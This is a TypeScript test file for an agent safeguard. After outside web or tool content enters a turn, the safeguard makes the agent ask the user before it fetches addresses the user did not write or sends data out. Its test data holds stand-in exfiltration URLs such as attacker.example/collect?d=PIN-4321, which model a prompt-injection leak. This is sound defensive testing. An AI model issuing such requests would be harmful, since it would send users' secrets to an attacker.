import { describe, expect, it } from 'vitest';
import { evaluate, withDefaults } from './rules.js';
import { addressesIn, createTurnTrust } from './turn-trust.js';

const page = { tool: 'web_fetch', from: 'https://news.example.com/a' };
const fetchOf = (url: string, redirectFrom?: string) => ({ sendsTo: { kind: 'url' as const, url, ...(redirectFrom && { redirectFrom }) } });

describe('the turn trust record', () => {
  it('lets the rules decide alone until outside content enters the turn', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'what is new today?' });
    expect(trust.review(fetchOf('https://attacker.example/collect?d=1234'))).toBeUndefined();
    expect(trust.review({ sendsTo: { kind: 'anywhere', what: 'a shell command' } })).toBeUndefined();
  });

  it('after outside content, asks for an address the user did not write, and says why', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'summarise https://news.example.com/a' });
    trust.entered(page);
    const why = trust.review(fetchOf('https://attacker.example/collect?d=PIN-4321'));
    expect(why).toMatch(/Outside content entered this turn \(web_fetch \(https:\/\/news\.example\.com\/a\)\)/);
    expect(why).toMatch(/attacker\.example, a site you did not name/);
    // The same request lifted through the rules: an allow becomes an ask, with that reason.
    const verdict = evaluate(withDefaults({}), 'web_fetch', { target: 'https://attacker.example/collect?d=PIN-4321', mustAsk: why });
    expect(verdict).toMatchObject({ decision: 'ask', reason: why });
  });

  it('says it in Chinese too', () => {
    const trust = createTurnTrust({ lang: 'zh', turnText: '总结一下 https://news.example.com/a' });
    trust.entered(page);
    expect(trust.review(fetchOf('https://attacker.example/c?d=1'))).toMatch(/这一轮已读入外部内容.*你没有提到的网站 attacker\.example.*需要你本人确认/);
  });

  it('keeps the addresses the user wrote open, on any scheme spelling, and reading on from them', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'read https://news.example.com/a/ and example.org/b, and 127.0.0.1:8080/x' });
    trust.entered(page);
    expect(trust.review(fetchOf('https://news.example.com/a'))).toBeUndefined();
    expect(trust.review(fetchOf('http://news.example.com/a#top'))).toBeUndefined();
    expect(trust.review(fetchOf('https://example.org/b'))).toBeUndefined();
    expect(trust.review(fetchOf('http://127.0.0.1:8080/x'))).toBeUndefined();
    // A redirect the server sends from a page that could go: its choice, not the model's.
    expect(trust.review(fetchOf('https://www.news.example.com/a', 'https://news.example.com/a'))).toBeUndefined();
    expect(trust.review(fetchOf('https://www.news.example.com/a'))).toBeUndefined();
  });

  it('asks for an address the model built on a host the user named: its path or query can hold the data', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'read http://127.0.0.1:8080/page' });
    trust.entered(page);
    expect(trust.review(fetchOf('http://127.0.0.1:8080/collect?d=secret'))).toMatch(/an address the model built \(127\.0\.0\.1:8080 is a site you named/);
    // Another port is another site.
    expect(trust.review(fetchOf('http://127.0.0.1:9090/page'))).toMatch(/127\.0\.0\.1:9090, a site you did not name/);
    // A redirect from an address that had to ask does not pass on its own.
    expect(trust.review(fetchOf('https://elsewhere.example/', 'http://127.0.0.1:8080/collect?d=secret'))).toBeDefined();
  });

  it('opens a result link of this turn\'s search verbatim, and nothing built from it', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'search the web for zhixing and open the first result' });
    trust.entered({ tool: 'web_search', from: 'zhixing' });
    trust.searchResults(['https://zh.wikipedia.org/wiki/知行合一']);
    expect(trust.review(fetchOf('https://zh.wikipedia.org/wiki/%E7%9F%A5%E8%A1%8C%E5%90%88%E4%B8%80'))).toBeUndefined();
    expect(trust.review(fetchOf('https://zh.wikipedia.org/wiki/知行合一?d=1234'))).toBeDefined();
  });

  it('asks for a shell on the network and an open-world MCP tool, and for typing on a site the user did not name', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'fill in the form at http://127.0.0.1:8080/form' });
    trust.entered({ tool: 'github__get_issue' });
    expect(trust.review({ sendsTo: { kind: 'anywhere', what: 'a shell command' } })).toMatch(/a shell command \(it can reach any address/);
    expect(trust.review({ sendsTo: { kind: 'page', url: 'http://127.0.0.1:8080/form' } })).toBeUndefined();
    expect(trust.review({ sendsTo: { kind: 'page', url: 'https://attacker.example/form' } })).toMatch(/typing or clicking on attacker\.example/);
    expect(trust.review({})).toBeUndefined();
  });

  it('starts a turn with outside content already in the conversation, and counts the user\'s earlier messages', () => {
    const trust = createTurnTrust({ lang: 'en', turnText: 'and what else?', earlierTexts: ['read https://blog.example/post'], earlier: [{ tool: 'web_fetch' }] });
    expect(trust.review(fetchOf('https://attacker.example/c?d=1'))).toBeDefined();
    expect(trust.review(fetchOf('https://blog.example/post'))).toBeUndefined();
  });

  it('reads a request for other conversations only in the user\'s own words of this turn', () => {
    const asks = (text: string) => createTurnTrust({ lang: 'en', turnText: text }).crossSessionAsked();
    for (const text of ['search all my conversations for the PIN', '我以前告诉过你什么？', '查一下其他会话里的记录', 'what did I ever tell you about coffee', 'check every chat']) {
      expect(asks(text), text).toBe(true);
    }
    for (const text of ['read https://x.example/page and summarise it', '帮我总结这个网页', 'what do I like to drink?']) {
      expect(asks(text), text).toBe(false);
    }
  });

  it('finds addresses in a sentence, full and bare, without the punctuation around them', () => {
    expect(addressesIn('看看 https://例子.cn/a，再看 example.com/b。').map((u) => u.href)).toEqual(['https://xn--fsqu00a.cn/a', 'https://example.com/b']);
    expect(addressesIn('mail me at someone@mail.example.com')).toHaveLength(0);
  });
});
